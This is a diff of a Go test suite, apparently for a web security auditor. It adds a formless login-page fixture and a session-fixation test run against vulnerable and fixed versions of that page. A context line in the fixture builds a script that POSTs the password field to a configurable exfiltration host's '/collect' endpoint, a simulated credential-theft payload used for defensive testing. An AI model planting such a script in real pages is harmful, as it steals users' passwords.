@@ -67,6 +67,32 @@ func newSPA(t *testing.T, vulnerable bool, exfil string) *spa {
 }
 
 func newGatedSPA(t *testing.T, vulnerable bool, exfil, gate string) *spa {
+	return newSPAWith(t, vulnerable, exfil, gate, false)
+}
+
+// formlessLogin is a login page with no <form>: inputs known by id, type
+// and labels only, a search box before them, state kept from input
+// events (as a React page keeps it), and a button wired by onclick that
+// posts the state with fetch.
+const formlessLogin = `<!doctype html><title>Sign in</title>
+<header><input id="q" type="text" placeholder="Search the shop"></header>
+<main><div class="card">
+  <label for="ident">Email or user name</label> <input id="ident" type="text">
+  <label for="pw">Password</label> <input id="pw" type="password">
+  <label><input type="checkbox" id="keep"> Keep me signed in</label>
+  <div class="row"><span role="button" tabindex="0" id="go" onclick="signIn()">Sign in</span></div>
+</div></main>
+<footer><input id="news" type="email" placeholder="Newsletter: your email"> <button type="button">Subscribe</button></footer>
+<script>
+const state = {};
+document.getElementById('ident').addEventListener('input', e => state.login = e.target.value);
+document.getElementById('pw').addEventListener('input', e => state.secret = e.target.value);
+function signIn() {
+  fetch('/session', {method: 'POST', body: new URLSearchParams(state)}).then(r => { if (r.ok) location = '/home'; });
+}
+</script>`
+
+func newSPAWith(t *testing.T, vulnerable bool, exfil, gate string, formless bool) *spa {
 	s := &spa{sessions: map[string]string{}, gate: gate}
 	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		s.mu.Lock()
@@ -95,6 +121,10 @@ func newGatedSPA(t *testing.T, vulnerable bool, exfil, gate string) *spa {
 				s.sessions[sid] = ""
 			}
 			w.Header().Set("Content-Type", "text/html; charset=utf-8")
+			if formless {
+				fmt.Fprint(w, formlessLogin)
+				return
+			}
 			send := ""
 			if exfil != "" {
 				send = fmt.Sprintf(`fetch(%q + '/collect', {method: 'POST', mode: 'no-cors', body: f.elements.secret.value});`, exfil)
@@ -201,6 +231,40 @@ func TestBrowserSignIn(t *testing.T) {
 			for _, u := range srv.uris {
 				if leaks(u) != "" {
 					t.Errorf("the password reached a URL: %s", u)
+				}
+			}
+		})
+	}
+}
+
+// TestBrowserSignInWithoutForm: a login page with no <form> (inputs by
+// id and label, a search box and a newsletter box beside them, a button
+// wired by onclick, state kept from input events) is signed in through as
+// a password manager would, vulnerable and fixed.
+func TestBrowserSignInWithoutForm(t *testing.T) {
+	chromium(t)
+	for _, vulnerable := range []bool{true, false} {
+		t.Run(fmt.Sprintf("vulnerable=%v", vulnerable), func(t *testing.T) {
+			t.Parallel()
+			srv := newSPAWith(t, vulnerable, "", "", true)
+			tg := target(t, srv.URL)
+			tg.NoWrongPasswordProbe = true
+			rep, err := audit.Run(context.Background(), tg)
+			if err != nil {
+				t.Fatalf("Run: %v", err)
+			}
+			want, verdict := audit.StatusPass, audit.VerdictNoFixationFound
+			if vulnerable {
+				want, verdict = audit.StatusFail, audit.VerdictVulnerable
+			}
+			if c, _ := rep.Check(audit.IDFixation); c.Status != want || rep.Verdict != verdict {
+				t.Errorf("fixation %s, verdict %s; want %s, %s: %q", c.Status, rep.Verdict, want, verdict, c.Evidence)
+			}
+			srv.mu.Lock()
+			defer srv.mu.Unlock()
+			for _, u := range srv.uris {
+				if strings.Contains(u, "q=") || leaks(u) != "" {
+					t.Errorf("a request went where it should not: %s", u)
 				}
 			}
 		})
